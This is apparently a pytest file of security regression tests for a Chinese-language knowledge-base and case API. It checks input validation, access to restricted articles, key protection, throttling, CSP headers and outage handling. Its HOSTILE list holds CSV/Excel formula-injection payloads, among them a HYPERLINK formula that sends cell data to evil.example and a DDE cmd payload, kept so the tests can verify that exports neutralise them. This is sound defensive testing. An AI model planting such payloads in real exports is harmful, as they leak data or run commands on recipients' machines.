"""The reproductions of issue 13 (trust under bad input, attackers and faults), each as a test
that failed before the fix: explicit nulls, out-of-range integers, control characters, formula
injection, restricted articles in stale/gaps/search, keys, throttling, headers, database down."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

import openpyxl
import pytest
from sqlalchemy import text

from kb.db import make_engine
from kb.models import Role
from tests.api.test_articles import KM, create, publish
from tests.conftest import case_payload
from tests.e2e.test_log_and_suggest import RESOLUTION

ADMIN = Role.admin
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)",
           "＝1+1"]


def problem_fields(resp) -> list[str]:
    assert resp.headers["content-type"].startswith("application/problem+json"), resp.text
    return [e["field"] for e in resp.json().get("errors", [])]


@pytest.mark.parametrize(("url", "body", "field"), [
    ("/api/v1/audiences/内部公开", {"active": None}, "active"),
    ("/api/v1/taxonomy/channel/电话", {"active": None}, "active"),
    ("/api/v1/users/u_agent", {"role": None}, "role"),
    ("/api/v1/audiences/内部公开", {"active": 0}, "active"),
    ("/api/v1/taxonomy/channel/电话", {"sort_order": "3"}, "sort_order"),
])
def test_explicit_null_and_coerced_types_are_422_naming_the_field(api, url, body, field):
    resp = api.patch(url, ADMIN, json=body)
    assert resp.status_code == 422 and problem_fields(resp) == [field]


@pytest.mark.parametrize("url", [
    "/api/v1/articles/99999999999999999999", "/api/v1/articles/2219173606/diff?from=1&to=2",
    "/api/v1/articles/1/versions/99999999999999999999", "/api/v1/articles/1/diff?from=1&to=99999999999",
    "/api/v1/models/train/99999999999999999999",
])
def test_integers_beyond_a_column_are_422(api, url):
    resp = api.get(url, ADMIN)
    assert resp.status_code == 422, resp.text


def test_huge_version_in_a_body_is_422(api):
    article = create(api)
    resp = api.post(f"/api/v1/articles/{article['id']}/transitions", KM, json={"state": "审核中", "version": 2**40})
    assert resp.status_code == 422 and problem_fields(resp) == ["version"]


@pytest.mark.parametrize("value", ["a\u0000b", "a\u001db\u000bc", "a\u0085b"])
def test_control_characters_are_refused_naming_the_field(api, value):
    resp = api.post("/api/v1/cases", json=case_payload(subject=value))
    assert resp.status_code == 422 and problem_fields(resp) == ["subject"]
    resp = api.post("/api/v1/dictionary", KM, json={"kind": "word", "term": value})
    assert resp.status_code == 422 and problem_fields(resp) == ["term"]
    resp = api.get("/api/v1/cases", params={"product": value})
    assert resp.status_code == 422 and problem_fields(resp) == ["product"]
    assert api.get("/api/v1/cases/FW" + quote(value)).status_code == 404


def test_tab_and_newline_are_kept(api):
    resp = api.post("/api/v1/cases", json=case_payload(description="第一行\n第二行\t附注"))
    assert resp.status_code == 201 and "第二行\t附注" in resp.json()["description"]


def test_a_row_stored_before_the_rule_still_exports(api, db_url):
    number = api.post("/api/v1/cases", json=case_payload()).json()["number"]
    engine = make_engine(db_url)
    with engine.begin() as conn:                # as an older version stored it (SQLite kept C0)
        conn.execute(text('UPDATE "case" SET description = :d WHERE number = :n'),
                     {"d": "a\u001db\u000bc 旧数据" if db_url.startswith("sqlite") else "a\u001bb 旧数据", "n": number})
    engine.dispose()
    resp = api.get("/api/v1/cases/export?format=xlsx", Role.analyst)
    assert resp.status_code == 200
    rows = list(openpyxl.load_workbook(io.BytesIO(resp.content)).active.iter_rows(values_only=True))
    assert any("旧数据" in str(cell) for row in rows for cell in row)


def test_exports_neutralise_formulas_and_import_keeps_the_text(api):
    for i, value in enumerate(HOSTILE):
        assert api.post("/api/v1/cases", json=case_payload(customer_name=value, subject=f"{value} 主题{i}",
                                                           contact=None)).status_code == 201
    xlsx = api.get("/api/v1/cases/export?format=xlsx", Role.analyst)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for value in HOSTILE:
        assert "'" + value in texts and value not in texts
    body = api.get("/api/v1/cases/export?format=csv", Role.analyst).content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")]
    # the neutralised export imports back literally (the apostrophe stays: nothing is evaluated)
    report = api.post("/api/v1/cases/import?dry_run=true", files={"file": ("export.csv", body.encode("utf-8-sig"))})
    assert report.status_code == 200


def _restricted_article(api, title: str) -> dict:
    article = publish(api, create(api, title=title, audience="仅技术团队", next_review_at="2020-01-01",
                                  body="红冲发票的操作步骤：先作废再重开。"))
    return article


def test_restricted_article_never_reaches_stale_gaps_or_search_counts(api):
    number = api.post("/api/v1/cases", json=case_payload(subject="发票红冲失败", description="开票后无法红冲，提示税控盘错误")).json()["number"]
    assert api.post(f"/api/v1/cases/{number}/resolve", json=RESOLUTION).status_code == 200
    before_gaps = api.get("/api/v1/kb/gaps?min_size=2", Role.analyst).json()["cases_considered"]
    title = "仅技术团队可见的红冲手册"
    article = _restricted_article(api, title)
    assert api.post(f"/api/v1/articles/{article['id']}/cases", KM, json={"case_numbers": [number]}).status_code == 200
    stale = api.get("/api/v1/kb/stale", Role.analyst)
    assert stale.status_code == 200 and title not in stale.text
    assert title in api.get("/api/v1/kb/stale", KM).text           # the curator does see it
    assert api.get("/api/v1/kb/gaps?min_size=2", Role.analyst).json()["cases_considered"] == before_gaps


def test_search_total_follows_an_audience_change_at_once(api):
    public = publish(api, create(api, title="红冲发票的通用说明", audience="内部公开", body="红冲发票需要先作废原票。"))
    import time
    for _ in range(100):                        # the index writer picks the article up
        if api.get("/api/v1/search", params={"q": "红冲", "kind": "article"}).json()["total"] == 1:
            break
        time.sleep(0.05)
    assert api.get("/api/v1/search", params={"q": "红冲", "kind": "article"}).json()["total"] == 1
    resp = api.patch(f"/api/v1/articles/{public['id']}", KM, json={"version": public["version"], "audience": "仅技术团队"})
    assert resp.status_code == 200
    # no window: the very next search (before the index writer runs) neither counts nor shows it
    after = api.get("/api/v1/search", params={"q": "红冲", "kind": "article"}).json()
    assert after["total"] == 0 and after["articles"] == []


def test_the_last_admin_and_the_key_in_use_are_protected(api):
    me = api.get("/api/v1/me", ADMIN).json()["username"]
    prefix = api.keys[ADMIN].split("_")[1]
    resp = api.client.delete(f"/api/v1/keys/{prefix}", headers=api.as_(ADMIN))
    assert resp.status_code == 409 and problem_fields(resp) == ["prefix"]
    resp = api.patch(f"/api/v1/users/{me}", ADMIN, json={"role": "agent"})
    assert resp.status_code == 409 and problem_fields(resp) == ["role"]
    resp = api.patch(f"/api/v1/users/{me}", ADMIN, json={"active": False})
    assert resp.status_code == 409
    # a second admin may not take away the only other admin's last key either
    second = api.post("/api/v1/users", ADMIN, json={"username": "ops2", "display_name": "运维", "role": "admin"})
    assert second.status_code == 201
    issued = api.post("/api/v1/users/ops2/keys", ADMIN, json={"note": "t"}).json()
    resp = api.client.delete(f"/api/v1/keys/{prefix}", headers={"Authorization": f"Bearer {issued['key']}"})
    assert resp.status_code == 200                     # another admin holds a key: allowed
    resp = api.client.delete(f"/api/v1/keys/{issued['prefix']}", headers={"Authorization": f"Bearer {issued['key']}"})
    assert resp.status_code == 409                     # the key in use, and the last usable admin key


def test_repeated_failed_authentication_is_throttled_but_good_keys_work(api):
    statuses = [api.client.get("/api/v1/me", headers={"Authorization": f"Bearer zk_0000abcd_{'x' * 43}"}).status_code
                for _ in range(25)]
    assert statuses[:20] == [401] * 20 and statuses[20:] == [429] * 5
    last = api.client.get("/api/v1/me", headers={"Authorization": "Bearer zk_0000abcd_" + "y" * 43})
    assert last.status_code == 429 and int(last.headers["retry-after"]) >= 1
    assert api.get("/api/v1/me").status_code == 200
    assert api.client.get("/api/v1/me").status_code == 401       # no key at all: still a plain 401


def test_guessing_keys_on_health_counts_towards_the_same_throttle(api):
    bad = {"Authorization": f"Bearer zk_0000abcd_{'x' * 43}"}
    answers = [api.client.get("/health", headers=bad) for _ in range(20)]
    assert [r.status_code for r in answers] == [200] * 20 and all(set(r.json()) == {"status"} for r in answers)
    assert api.client.get("/api/v1/me", headers=bad).status_code == 429      # /health was no side door
    admin = api.client.get("/health", headers=api.as_(ADMIN)).json()
    assert {"database", "index", "model"} <= set(admin)
    assert set(api.client.get("/health", headers=api.as_(Role.analyst)).json()) == {"status"}


@pytest.mark.parametrize("path", ["/", "/login", "/workspace", "/cases/FW20240521001", "/knowledge/1", "/reports"])
def test_pages_carry_a_strict_content_security_policy(api, path):
    resp = api.client.get(path)
    csp = resp.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
    assert "frame-ancestors 'none'" in csp
    assert resp.headers["x-content-type-options"] == "nosniff" and resp.headers["referrer-policy"]
    assert "<script>" not in resp.text                    # no inline script the policy would block


def test_database_down_is_503_with_retry_after(api):
    app = api.client.app
    healthy = app.state.engine
    app.state.engine = make_engine("postgresql+psycopg://nobody@127.0.0.1:1/none?connect_timeout=2")
    try:
        for url in ("/api/v1/cases", "/api/v1/taxonomy", "/api/v1/me"):
            resp = api.get(url)
            assert resp.status_code == 503 and resp.headers["retry-after"], resp.text
            assert resp.headers["content-type"].startswith("application/problem+json")
        health = api.client.get("/health")
        assert health.status_code == 503 and health.json()["status"] == "unavailable"
        assert api.client.get("/health/live").status_code == 200
    finally:
        app.state.engine.dispose()
        app.state.engine = healthy
    assert api.get("/api/v1/cases").status_code == 200           # resumes by itself


def test_every_method_a_path_lacks_is_405_naming_all_it_has(api):
    """Schemathesis' unsupported_method and allow_header_conformance, for every path: a
    ``PATCH /cases/export`` must not reach the case route as case "export"."""
    import re

    spec = api.client.get("/openapi.json").json()
    wrong = []
    for path, ops in spec["paths"].items():
        documented = {m.upper() for m in ops if m in ("get", "post", "put", "patch", "delete")}
        url = path.replace("/cases/{number}", "/cases/FW20240521001").replace("{version}", "20261122T224131Z-abc123")
        url = re.sub(r"\{[^}]+\}", lambda m: "1" if ("id" in m.group(0) or "number" in m.group(0)) else "x", url)
        for method in sorted({"GET", "POST", "PUT", "PATCH", "DELETE"} - documented):
            resp = api.client.request(method, url, headers=api.as_(ADMIN))
            allow = {m.strip() for m in resp.headers.get("allow", "").split(",") if m.strip()} - {"HEAD"}
            if resp.status_code != 405 or allow != documented:
                wrong.append((method, url, resp.status_code, sorted(allow), sorted(documented)))
    assert wrong == []
